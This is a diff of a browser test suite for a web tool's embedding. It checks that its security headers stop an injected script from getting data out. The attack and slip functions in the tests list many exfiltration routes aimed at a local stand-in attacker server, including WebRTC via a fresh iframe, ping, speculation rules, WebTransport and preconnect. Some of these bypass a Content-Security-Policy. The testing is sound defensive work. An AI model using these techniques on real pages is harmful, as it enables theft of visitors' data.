@@ -1,13 +1,18 @@
 // Nothing leaves the visitor's device, in any form of embedding. And the control: an attacker whose script runs on the page gets nothing out under
 // our policy, while the same attack without the policy arrives at the attacker's server.
 import assert from "node:assert/strict";
-import { readFile } from "node:fs/promises";
+import { mkdtemp, readdir, readFile, rm } from "node:fs/promises";
+import { tmpdir } from "node:os";
 import path from "node:path";
 import { after, before, test } from "node:test";
 import { pathToFileURL } from "node:url";
-import { ELEMENT, FRAME, inside, OFFER, RESIZER, startHost, toolFrame, visit } from "./support/embedding.mjs";
+import { chromium } from "playwright-core";
+import { ELEMENT, FRAME, inside, OFFER, RESIZER, startAttacker, startHost, toolFrame, visit } from "./support/embedding.mjs";
+import { headersFile } from "../../xtask/site/headers.mjs";
 import { DIST, startSite } from "./support/site.mjs";
 import { visitor } from "./support/visitor.mjs";
+
+const PKG = path.resolve(process.env.PKG ?? path.join(import.meta.dirname, "../../pkg"));
 
 let site;
 let host;
@@ -15,7 +20,7 @@ let attacker;
 before(async () => {
   site = await startSite();
   host = await startHost();
-  attacker = await startHost();
+  attacker = await startAttacker({ datagrams: ["webtransport", "webrtc-udp", "webrtc-realm"], streams: ["webrtc-tcp", "preconnect"] });
   host.put("/frame", FRAME(site), { head: RESIZER(site) });
   host.put("/element", "<kennismigrant-check></kennismigrant-check>", { head: ELEMENT(site) });
 });
@@ -69,11 +74,12 @@ async function kept() {
   return [localStorage.length, sessionStorage.length, (await indexedDB.databases()).length, document.cookie];
 }
 
-/** Every way out that a script has, each with its name in the address. */
-function attack(to) {
-  const put = (name, attributes, place = document.head) => {
+/** Every way out that a policy of content stops, each with its name in the address. */
+function attack({ base: to, ports }) {
+  const put = (name, attributes, place = document.head, text = "") => {
     const element = document.createElement(name);
     for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
+    if (text) element.textContent = text;
     place.append(element);
     return element;
   };
@@ -96,6 +102,13 @@ function attack(to) {
     object: () => put("object", { data: `${to}/object` }, document.body),
     script: () => put("script", { src: `${to}/script` }),
     worker: () => new Worker(URL.createObjectURL(new Blob([`importScripts("${to}/worker")`]))),
+    module: () => { import(`${to}/module`).catch(() => null); },
+    preload: () => put("link", { rel: "preload", as: "fetch", href: `${to}/preload` }),
+    background: () => { document.body.style.backgroundImage = `url(${to}/background)`; },
+    later: () => fetchLater(`${to}/later`, { activateAfter: 0 }),
+    ping: () => put("a", { href: "#ping", target: "_self", ping: `${to}/ping` }, document.body).click(),
+    speculation: () => put("script", { type: "speculationrules" }, document.head, JSON.stringify({ prefetch: [{ urls: [`${to}/speculation`], eagerness: "immediate" }] })),
+    webtransport: () => { new WebTransport(`https://127.0.0.1:${ports.webtransport}`).ready.catch(() => null); },
   };
   for (const way of Object.values(ways)) {
     try { way(); } catch { /* Refused at once. */ }
@@ -103,12 +116,15 @@ function attack(to) {
   return Object.keys(ways);
 }
 
+/** Where an attack goes, as a script is told it. */
+const target = () => ({ base: attacker.base, ports: attacker.ports });
+
 /** What arrived at the attacker's server, by name. */
-async function arrivals(page, run) {
+async function arrivals(run) {
   attacker.log.length = 0;
   const ways = await run();
-  await page.waitForTimeout(1500);
-  return { ways, arrived: [...new Set(attacker.log.map((url) => url.split("/")[1]))].sort() };
+  await new Promise((resolve) => setTimeout(resolve, 1500));
+  return { ways, arrived: [...new Set(attacker.log.map((url) => url.split("/")[1]))].filter((name) => name !== "favicon.ico").sort() };
 }
 
 const POLICY = /<meta http-equiv="Content-Security-Policy"[^>]*>\n?/;
@@ -120,7 +136,7 @@ for (const [name, file] of Object.entries(OURS)) {
   test(`an attacker's script in the ${name} gets nothing out`, async () => {
     const page = await visit(site, `${site.base}/${file}`);
     await page.locator("#check").waitFor();
-    const { arrived } = await arrivals(page, () => page.evaluate(attack, attacker.base));
+    const { arrived } = await arrivals(() => page.evaluate(attack, target()));
     assert.deepEqual(arrived, []);
     await page.context().close();
   });
@@ -130,7 +146,7 @@ for (const [name, file] of Object.entries(OURS)) {
     assert.match(html, POLICY);
     host.putRaw(`/meta/${file}`, html);
     const page = await visit(site, `${host.base}/meta/${file}`);
-    const { arrived } = await arrivals(page, () => page.evaluate(attack, attacker.base));
+    const { arrived } = await arrivals(() => page.evaluate(attack, target()));
     assert.deepEqual(arrived, []);
     await page.context().close();
   });
@@ -139,33 +155,202 @@ for (const [name, file] of Object.entries(OURS)) {
     const html = await readFile(path.join(DIST, file), "utf8");
     host.putRaw(`/none/${file}`, html.replace(POLICY, ""));
     const page = await visit(site, `${host.base}/none/${file}`);
-    const { ways, arrived } = await arrivals(page, () => page.evaluate(attack, attacker.base));
+    const { ways, arrived } = await arrivals(() => page.evaluate(attack, target()));
     assert.deepEqual(arrived, [...ways].sort());
     await page.context().close();
   });
 }
 
+// What no policy of content stops: WebRTC, leaving for another page, connecting ahead. The header Connection-Allowlist does, and a <meta> cannot say it.
+
+/** One way out that no policy of content stops. */
+function slip({ way, base, ports }) {
+  const call = (Peer, url) => {
+    const peer = new Peer({ iceServers: [{ urls: url, username: "secret", credential: "secret" }] });
+    window.held = peer;
+    peer.createDataChannel("out");
+    peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch(() => null);
+  };
+  const put = (name, attributes) => {
+    const element = document.createElement(name);
+    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
+    document.body.append(element);
+    return element;
+  };
+  const ways = {
+    "webrtc-udp": () => call(RTCPeerConnection, `stun:127.0.0.1:${ports["webrtc-udp"]}`),
+    "webrtc-tcp": () => call(RTCPeerConnection, `turn:127.0.0.1:${ports["webrtc-tcp"]}?transport=tcp`),
+    // A page that had taken the constructor away would be passed by: an empty frame has its own.
+    "webrtc-realm": () => call(put("iframe", {}).contentWindow.RTCPeerConnection, `stun:127.0.0.1:${ports["webrtc-realm"]}`),
+    location: () => { location.href = `${base}/location`; },
+    refresh: () => put("meta", { "http-equiv": "refresh", content: `0;url=${base}/refresh` }),
+    link: () => put("a", { href: `${base}/link`, target: "_self" }).click(),
+    window: () => window.open(`${base}/window`),
+  };
+  ways[way]();
+}
+
+const SLIPS = ["link", "location", "refresh", "webrtc-realm", "webrtc-tcp", "webrtc-udp", "window"];
+
+/** Tries every way, on a page of its own since one that works ends the page. @param {(page: import("playwright-core").Page) => unknown} [place] */
+async function slips(address, place = (page) => page) {
+  const pages = await Promise.all(SLIPS.map(() => visit(site, address)));
+  const places = await Promise.all(pages.map(place));
+  // The browser may end a page that breaks its rules, or the way out ends it.
+  const { arrived } = await arrivals(() => Promise.all(SLIPS.map((way, index) => places[index].evaluate(slip, { way, ...target() }).catch(() => null))));
+  for (const page of pages) await page.context().close();
+  return arrived;
+}
+
+/** A frame has nowhere to stand but in a host, of which it may be the only content. */
+const framed = async (page) => (await page.locator("iframe").first().elementHandle()).contentFrame();
+
+for (const [name, { address, place }] of Object.entries({
+  page: { address: () => `${site.base}/nl/` },
+  "one file from the web": { address: () => `${site.base}/kennismigrant-check.html` },
+  "frame in a sandbox with popups": {
+    address: () => {
+      host.put("/popups", FRAME(site).replace("allow-scripts", "allow-scripts allow-popups allow-popups-to-escape-sandbox"));
+      return `${host.base}/popups`;
+    },
+    place: toolFrame,
+  },
+}))
+  test(`with our headers a script in the ${name} opens no WebRTC, also not from a new frame, and cannot leave for a page of its own`, async () => {
+    assert.deepEqual(await slips(address(), place), []);
+  });
+
+// These are limits, told in docs/embedding.md. They fail on the day that the browser closes them.
+
+for (const [name, file] of [["page", "nl/index.html"], ["one file", "kennismigrant-check.html"]])
+  test(`a known limit, and the control: without our headers a script in the ${name} gets out by WebRTC and by leaving`, async () => {
+    const html = await readFile(path.join(DIST, file), "utf8");
+    assert.match(html, POLICY);
+    host.putRaw(`/limit/${file}`, html);
+    assert.deepEqual(await slips(`${host.base}/limit/${file}`), SLIPS);
+  });
+
+test("a known limit, and the control: without our headers a script in the sandboxed frame does too, but has no other frame to work from", async () => {
+  host.putRaw("/limit/embed", await readFile(path.join(DIST, "embed/index.html"), "utf8"));
+  host.put("/limit/host", `<iframe src="/limit/embed" title="Controle" sandbox="allow-scripts allow-popups"></iframe>`);
+  assert.deepEqual(await slips(`${host.base}/limit/host`, framed), SLIPS.filter((way) => way !== "webrtc-realm"));
+});
+
+test("a known limit: the one file on a disk has no headers either", async () => {
+  assert.deepEqual(await slips(pathToFileURL(path.join(DIST, "kennismigrant-check.html")).href), SLIPS);
+});
+
+test("a known limit: this browser does not know `webrtc 'block'`, the word of the standard for policies of content", async () => {
+  const page = await visit(site, "about:blank");
+  host.putRaw("/webrtc", "<!doctype html><title>Host</title>", { "Content-Security-Policy": "webrtc 'block'" });
+  await page.goto(`${host.base}/webrtc`);
+  assert.match(page.complaints.join(), /Unrecognized Content-Security-Policy directive 'webrtc'/);
+  const { arrived } = await arrivals(() => page.evaluate(slip, { way: "webrtc-udp", ...target() }));
+  assert.deepEqual(arrived, ["webrtc-udp"]);
+  await page.context().close();
+});
+
+/** What a page can make the browser do ahead of any request. A private window does nothing ahead, so this is a visitor's ordinary one, whose log is read. */
+async function ahead(address) {
+  const folder = await mkdtemp(path.join(tmpdir(), "ahead-"));
+  const log = path.join(folder, "net.json");
+  const context = await chromium.launchPersistentContext(path.join(folder, "profile"), { executablePath: process.env.CHROME ?? "/usr/bin/chromium", args: ["--no-sandbox", "--disable-gpu", `--log-net-log=${log}`] });
+  try {
+    attacker.log.length = 0;
+    const page = await context.newPage();
+    await page.goto(address);
+    await page.evaluate((port) => {
+      for (const [rel, href] of [["preconnect", `http://127.0.0.1:${port}`], ["preconnect", "http://secret-connect.example"], ["dns-prefetch", "http://secret-name.example"]]) {
+        const link = document.createElement("link");
+        link.rel = rel;
+        link.href = href;
+        document.head.append(link);
+      }
+    }, attacker.ports.preconnect);
+    await page.waitForTimeout(1500);
+    await context.close();
+    const named = (await readFile(log, "utf8")).match(/secret-\w+\.example/g) ?? [];
+    return [...attacker.log, ...new Set(named)].sort();
+  } finally {
+    await context.close();
+    await rm(folder, { recursive: true, force: true });
+  }
+}
+
+test("with our headers a script in the page looks up no name and connects nowhere ahead; without them it does", async () => {
+  host.putRaw("/ahead", await readFile(path.join(DIST, "nl/index.html"), "utf8"));
+  assert.deepEqual(await ahead(`${site.base}/nl/`), []);
+  assert.deepEqual(await ahead(`${host.base}/ahead`), ["/preconnect", "secret-connect.example", "secret-name.example"]);
+});
+
+test("all that we serve says it, since a script could work from a page of the same site that does not", async () => {
+  for (const place of ["/", "/nl/", "/demo/", "/embed/", "/norms.json", "/norms.csv", "/kennismigrant-check.html", "/kennismigrant-check.js"]) {
+    const { headers } = await fetch(site.base + place);
+    assert.match(headers.get("Connection-Allowlist") ?? "", /^\(response-origin .*\);redirects=allow$/, place);
+  }
+});
+
+test("whatever our pages and the engine's sources link to can be reached", async () => {
+  const allowed = [...(await fetch(site.base)).headers.get("Connection-Allowlist").matchAll(/"([^"]+)"/g)].map(([, origin]) => origin);
+  const { initSync, sources } = await import(pathToFileURL(path.join(PKG, "kennismigrant.js")).href);
+  initSync({ module: await readFile(path.join(PKG, "kennismigrant_bg.wasm")) });
+  const pages = (await readdir(DIST, { recursive: true })).filter((name) => name.endsWith(".html"));
+  const html = (await Promise.all(pages.map((name) => readFile(path.join(DIST, name), "utf8")))).join();
+  const linked = [...html.matchAll(/<a [^>]*href="(https?:[^"]+)"/g)].map(([, url]) => url).concat(sources().flatMap(({ url }) => url ?? []));
+  assert.ok(linked.length > 50, String(linked.length));
+  assert.deepEqual([...new Set(linked.map((url) => new URL(url).origin))].filter((origin) => !allowed.includes(origin)), []);
+  // Nobody is let in whom we do not name: no star, no scheme without a lock.
+  for (const origin of allowed) assert.match(origin, /^https:\/\/[a-z.-]+$/);
+});
+
+test("a link to a place that sends its readers on works, as those to the law do; one to a place that we do not name goes nowhere", async () => {
+  const [, value] = /Connection-Allowlist: (.*)/.exec(headersFile({ filePolicy: "", linked: [host.base] }));
+  const law = await startHost();
+  host.sendOn("/law", `${law.base}/article`);
+  attacker.putRaw("/linking", `<a id="named" href="${host.base}/law" target="_blank">law</a><a id="not-named" href="${law.base}/other" target="_blank">other</a>`, { "Connection-Allowlist": value });
+  const page = await visit(site, `${attacker.base}/linking`);
+  for (const id of ["#named", "#not-named"]) await page.click(id);
+  await page.waitForTimeout(700);
+  assert.deepEqual(law.log.filter((url) => url !== "/favicon.ico"), ["/article"]);
+  await page.context().close();
+  await law.stop();
+});
+
+test("the element stands in its host's page: nothing of ours holds there, and under a host's own headers it works", async () => {
+  const STRICT = { "Content-Security-Policy": `default-src 'none'; script-src ${site.base} 'wasm-unsafe-eval'; img-src data:`, "Connection-Allowlist": `(response-origin "${site.base}")` };
+  host.put("/guarded-element", "<kennismigrant-check></kennismigrant-check>", { head: ELEMENT(site), ...STRICT });
+  const { arrived } = await arrivals(async () => {
+    const page = await visit(site, `${host.base}/guarded-element`);
+    const me = visitor(inside(page.locator("kennismigrant-check")));
+    await me.offer(OFFER);
+    assert.equal(await me.outcome(), "met-provided");
+    await page.evaluate(attack, target());
+  });
+  assert.deepEqual(arrived, []);
+  assert.deepEqual(await slips(`${host.base}/guarded-element`), []);
+  assert.deepEqual(await slips(`${host.base}/element`), SLIPS);
+});
+
 test("an attacker's script in the sandboxed frame cannot take the host's page, the frame or a new window elsewhere", async () => {
-  const place = (name, sandbox, policy) => host.put(name, FRAME(site).replace('sandbox="allow-scripts"', sandbox), { head: RESIZER(site), ...(policy ? { "Content-Security-Policy": policy } : {}) });
   const leave = (to) => {
     for (const way of [() => { window.top.location = `${to}/top`; }, () => window.open(`${to}/window`), () => { window.location = `${to}/self`; }])
       try { way(); } catch { /* Refused at once. */ }
   };
-  place("/guarded", 'sandbox="allow-scripts"', `frame-src ${site.base}`);
+  host.put("/guarded", FRAME(site), { head: RESIZER(site), "Content-Security-Policy": `frame-src ${site.base}` });
   const page = await visit(site, `${host.base}/guarded`);
   const frame = await toolFrame(page);
-  const { arrived } = await arrivals(page, () => frame.evaluate(leave, attacker.base).catch(() => []));
+  const { arrived } = await arrivals(() => frame.evaluate(leave, attacker.base).catch(() => []));
   assert.deepEqual(arrived, []);
   assert.equal(page.url(), `${host.base}/guarded`);
   await page.context().close();
 
-  // The control: without the sandbox and without the host's `frame-src` it leaves.
-  place("/unguarded", "");
+  // The control: without the sandbox, our headers and the host's `frame-src` it leaves.
+  host.putRaw("/unheaded", await readFile(path.join(DIST, "embed/index.html"), "utf8"));
+  host.put("/unguarded", `<iframe src="/unheaded" title="Controle"></iframe>`);
   const open = await visit(site, `${host.base}/unguarded`);
-  const unguarded = await toolFrame(open);
-  await unguarded.locator("body").click({ position: { x: 2, y: 2 } });
-  const control = await arrivals(open, () => unguarded.evaluate((to) => { window.location = `${to}/self`; }, attacker.base).catch(() => []));
-  assert.deepEqual(control.arrived, ["self"]);
+  const unguarded = await framed(open);
+  const control = await arrivals(() => unguarded.evaluate(leave, attacker.base).catch(() => []));
+  assert.deepEqual(control.arrived, ["self", "top", "window"]);
   await open.context().close();
 });
 
@@ -178,8 +363,7 @@ test("the frame in a sandbox has nothing to store in, and works", async () => {
 });
 
 test("the engine imports its own glue and nothing else: it has no way to the network, the clock or chance", async () => {
-  const pkg = path.resolve(process.env.PKG ?? path.join(import.meta.dirname, "../../pkg"));
-  const module = new WebAssembly.Module(await readFile(path.join(pkg, "kennismigrant_bg.wasm")));
+  const module = new WebAssembly.Module(await readFile(path.join(PKG, "kennismigrant_bg.wasm")));
   const imports = WebAssembly.Module.imports(module);
   assert.ok(imports.length > 0);
   assert.deepEqual([...new Set(imports.map(({ module: from }) => from))], ["./kennismigrant_bg.js"]);
@@ -188,7 +372,7 @@ test("the engine imports its own glue and nothing else: it has no way to the net
 });
 
 test("the tool never opens a WebRTC connection", async () => {
-  // No policy of ours can forbid WebRTC in every browser, so the tool is watched instead: the constructor is never called.
+  // Not every browser and not every host forbids WebRTC, so the tool is watched instead: the constructor is never called.
   const page = await visit(site, "about:blank");
   await page.addInitScript(() => {
     window.connections = 0;
